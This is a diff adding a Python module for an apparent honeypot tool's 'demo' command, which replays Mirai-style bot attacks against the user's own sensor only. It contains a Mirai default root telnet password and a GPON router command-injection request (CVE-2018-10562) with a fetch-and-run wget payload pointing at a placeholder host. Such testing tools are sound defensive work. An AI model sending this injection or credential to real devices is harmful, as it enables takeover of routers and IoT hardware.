@@ -1,0 +1,129 @@
+"""`eudaemon demo`: attack your own sensor, harmlessly."""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import hashlib
+import ipaddress
+import os
+import socket
+import time
+
+from eudaemon.app import UNPRIVILEGED_PORT_OFFSET
+from eudaemon.cli import DONE, FAILED, FOUND, WRONG_USE
+from eudaemon.demo import sample
+from eudaemon.demo.loader import attack
+
+HELP = """\
+Play bots against your own sensor: a telnet loader that does what Mirai's does and brings a harmless
+program, a web request with a command injected, and bytes that nobody expects.
+
+  eudaemon demo                    all three
+  eudaemon demo telnet             one of them
+  eudaemon demo telnet --again     with a program that the farm has not seen yet
+
+It attacks only this machine."""
+
+MACHINES = {"arm": (40, 32, True), "arm7": (40, 32, True), "mips": (8, 32, False), "mpsl": (8, 32, True),
+            "x86": (3, 32, True), "ppc": (20, 32, False), "sh4": (42, 32, True), "spc": (2, 32, False),
+            "m68k": (4, 32, False)}  # fmt: skip
+REQUEST = (
+    b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: router\r\nUser-Agent: demo\r\nContent-Length: %d\r\n"
+    b"Connection: close\r\n\r\n%s"
+)
+INJECTION = (
+    b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.7/bins/demo.sh"
+    b"+-O+/tmp/demo.sh;sh+/tmp/demo.sh`&ipv=0"
+)
+TRY_S = 10.0
+
+
+def add_arguments(parser: argparse.ArgumentParser) -> None:
+    """Declare the arguments."""
+    parser.add_argument("what", nargs="?", choices=("all", "telnet", "http", "bytes"), default="all")
+    parser.add_argument("--host", default="127.0.0.1", help="an address of this machine (default: %(default)s)")
+    parser.add_argument("--port", type=int, help="the sensor's port (default: 23, 80 or 445, or those plus 10000)")
+    parser.add_argument("--password", default="xc3511", help="for telnet's user root (default: %(default)s)")
+    parser.add_argument("--again", action="store_true", help="bring a program that was not brought before")
+
+
+def run(arguments: argparse.Namespace) -> int:
+    """Attack."""
+    if not _is_own(arguments.host):
+        print(f"eudaemon: {arguments.host} is not an address of this machine; the demo attacks no other")
+        return WRONG_USE
+    attacks = {"telnet": _telnet, "http": _http, "bytes": _bytes}
+    chosen = attacks if arguments.what == "all" else {arguments.what: attacks[arguments.what]}
+    try:
+        succeeded = [play(arguments) for play in chosen.values()]
+    except ConnectionRefusedError as error:
+        print(f"eudaemon: {error}; is a sensor running? `eudaemon up` starts one, --port names its port")
+        return FAILED
+    print("Look at the farm's page: it is there within a second or two.")
+    return DONE if all(succeeded) else FOUND
+
+
+def _telnet(arguments: argparse.Namespace) -> bool:
+    port = _port(arguments, 23)
+    note = f"Brought {time.strftime('%Y-%m-%d %H:%M:%S')}.\n" if arguments.again else ""
+    print(f"telnet {arguments.host}:{port}: log in as root, look around, upload a program by echo, run it …")
+
+    def program(architecture: str) -> bytes:
+        machine, bits, little = MACHINES[architecture]
+        return sample.harmless(machine, bits=bits, little=little, note=note)
+
+    outcome = asyncio.run(
+        attack(arguments.host, port, payload=program, method="echo", password=arguments.password, timeout_s=60)
+    )
+    if not outcome.succeeded:
+        print(f"  gave up at: {outcome.stage}")
+        return False
+    print(f"  it ran. {outcome.architecture}, {len(outcome.payload)} bytes,")
+    print(f"  SHA-256 {hashlib.sha256(outcome.payload).hexdigest()}")
+    return True
+
+
+def _http(arguments: argparse.Namespace) -> bool:
+    port = _port(arguments, 80)
+    print(f"http {arguments.host}:{port}: a command injected into a router's diagnosis form (CVE-2018-10562) …")
+    with socket.create_connection((arguments.host, port), TRY_S) as peer:
+        peer.sendall(REQUEST % (len(INJECTION), INJECTION))
+        answer = peer.recv(4096)
+    print(f"  {answer.splitlines()[0].decode('latin-1') if answer else 'no answer'}")
+    return bool(answer)
+
+
+def _bytes(arguments: argparse.Namespace) -> bool:
+    port = _port(arguments, 445)
+    print(f"tcp {arguments.host}:{port}: bytes that nobody expects …")
+    with socket.create_connection((arguments.host, port), TRY_S) as peer:
+        peer.sendall(b"\x16\x99demo " + hashlib.sha256(str(time.time()).encode()).digest())
+    print("  sent")
+    return True
+
+
+def _port(arguments: argparse.Namespace, real: int) -> int:
+    """Return the port to attack: the named one, or the first of the usual two that answers."""
+    if arguments.port:
+        return int(arguments.port)
+    offsets = (0, UNPRIVILEGED_PORT_OFFSET) if os.geteuid() == 0 else (UNPRIVILEGED_PORT_OFFSET, 0)
+    for offset in offsets:
+        try:
+            socket.create_connection((arguments.host, real + offset), TRY_S).close()
+        except OSError:
+            continue
+        return real + offset
+    raise ConnectionRefusedError(
+        f"nothing answers on {arguments.host} port {real} or {real + UNPRIVILEGED_PORT_OFFSET}"
+    )
+
+
+def _is_own(host: str) -> bool:
+    try:
+        address = ipaddress.ip_address(host)
+        with socket.socket(socket.AF_INET6 if address.version == 6 else socket.AF_INET, socket.SOCK_DGRAM) as probe:
+            probe.bind((host, 0))  # only an own address can be bound
+    except (ValueError, OSError):
+        return False
+    return True
